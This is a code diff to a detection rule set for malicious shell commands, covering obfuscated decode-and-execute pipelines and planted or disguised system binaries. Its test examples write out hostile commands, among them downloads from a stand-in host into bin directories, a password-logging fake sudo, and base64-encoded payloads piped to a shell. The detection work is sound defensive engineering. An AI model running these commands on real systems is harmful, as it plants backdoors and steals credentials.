@@ -24,7 +24,16 @@ function isDecoder(c: SimpleCommand): boolean {
     case 'rev': case 'uudecode': return true;
     case 'tr': return c.argv.some((w) => /^[a-zA-Z]-[a-zA-Z][a-zA-Z]-[a-zA-Z]/.test(w) && /n-z|N-Z/.test(w));
     case 'perl': return c.argv.some((w) => /chr\(hex|pack\(|unpack\(|decode_base64/.test(w.slice(0, 400)));
-    case 'gunzip': case 'zcat': return c.pipeFrom !== undefined && isDecoder(c.pipeFrom);
+    default: return isDecompressor(c) && c.pipeFrom !== undefined && isDecoder(c.pipeFrom);
+  }
+}
+/** Decompressors: after a decoder, they only unwrap a payload one more layer. */
+function isDecompressor(c: SimpleCommand): boolean {
+  switch (c.name) {
+    case 'gunzip': case 'zcat': case 'bunzip2': case 'bzcat': case 'unxz': case 'xzcat': case 'unlzma': case 'lzcat': case 'unzstd': case 'zstdcat': case 'lz4cat': case 'uncompress':
+      return true;
+    case 'gzip': case 'bzip2': case 'xz': case 'lzma': case 'zstd': case 'lz4': case 'brotli':
+      return hasArg(c, '-d', '--decompress', '--uncompress') || hasShortFlag(c, 'd');
     default: return false;
   }
 }
@@ -389,8 +398,10 @@ export const RULES: readonly Rule[] = [
       ...(i.view?.commands ?? []).filter((c) => c.name === 'mount' && c.argv.some((w) => w === '--bind' || w === '-B' || /^bind$|(^|,)bind(,|$)/.test(w)) && plantedBinary(canonicalPath(operands(c).at(-1) ?? ''))).map((c) => c.argv.join(' ')),
       // the real command moved aside, to make room for a stand-in: `mv /bin/ls /bin/ls.bak`
       ...(i.view?.commands ?? []).filter((c) => c.name === 'mv' && operands(c).length >= 2 && operands(c).slice(0, -1).some((p) => plantedBinary(canonicalPath(p)))).map((c) => c.argv.join(' ')),
+      // one already planted, started: no real program in a bin directory is named like a kernel thread (the watchdog daemon is)
+      ...(i.view?.commands ?? []).filter((c) => KERNEL_THREAD.test(c.name) && !c.name.startsWith('watchdog') && SYSTEM_BIN_DIR.test(c.argv[0] ?? '')).map((c) => c.argv.join(' ')),
     ],
-    examples: { fire: ['curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: ['sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python'] },
+    examples: { fire: ['nohup /usr/sbin/kswapd0 -c /tmp/.c.json >/dev/null 2>&1 &', 'curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: ['sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python', 'ps -o comm= -C kswapd0', 'sudo /usr/sbin/watchdog -c /etc/watchdog.conf'] },
   },
   {
     id: 'PX-EVADE-014', name: 'masquerades-process-name', score: 75, tactic: 'defense_evasion', technique: 'T1036.004',
@@ -433,7 +444,7 @@ export const RULES: readonly Rule[] = [
       for (const s of i.view?.scripts ?? []) if (/b64decode|base64_decode|decode_base64|unpack\(['"]m|pack\(['"]H|Buffer\.from\([^)]{0,400}base64|fromhex|decode\(['"]hex/.test(s.code.slice(0, 4000)) && /system|exec|eval|popen|spawn|subprocess/.test(s.code.slice(0, 4000))) out.push(`${s.lang}: ${s.code.slice(0, 120)}`);
       return out;
     },
-    examples: { fire: ['echo Y3VybCAtcyBodHRwOi8vZXZpbC5pby94IHwgc2g= | base64 -d | bash', 'echo 6375726c202d73 | xxd -r -p | sh', "echo 'hs | hs.x/7.21.33.54//:ptth s- lruc' | rev | sh", 'eval "$(echo aGlzdG9yeSAtYw== | base64 -d)"', "perl -e 'eval(pack(\"H*\",\"73797374656d28226964222900\"))'", "python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\""], quiet: ['echo aGVsbG8= | base64 -d', 'base64 -d cert.b64 > cert.pem', 'echo ZWNobyBoaQ== | base64 -d | sh'] },
+    examples: { fire: ['echo Y3VybCAtcyBodHRwOi8vZXZpbC5pby94IHwgc2g= | base64 -d | bash', 'echo 6375726c202d73 | xxd -r -p | sh', "echo 'hs | hs.x/7.21.33.54//:ptth s- lruc' | rev | sh", 'eval "$(echo aGlzdG9yeSAtYw== | base64 -d)"', "perl -e 'eval(pack(\"H*\",\"73797374656d28226964222900\"))'", "python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"", 'echo QlpoOTFBWSZTWbq3 | base64 -d | bunzip2 | sh', 'base64 -d <<< /Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj | xz -d | bash'], quiet: ['echo aGVsbG8= | base64 -d', 'base64 -d dump.b64 | gunzip > dump.sql', 'bunzip2 -c logs.bz2 | grep ERROR', 'base64 -d cert.b64 > cert.pem', 'echo ZWNobyBoaQ== | base64 -d | sh'] },
   },
   {
     id: 'PX-EVADE-017', name: 'weakens-kernel-hardening', score: 55, tactic: 'defense_evasion', technique: 'T1562.001',
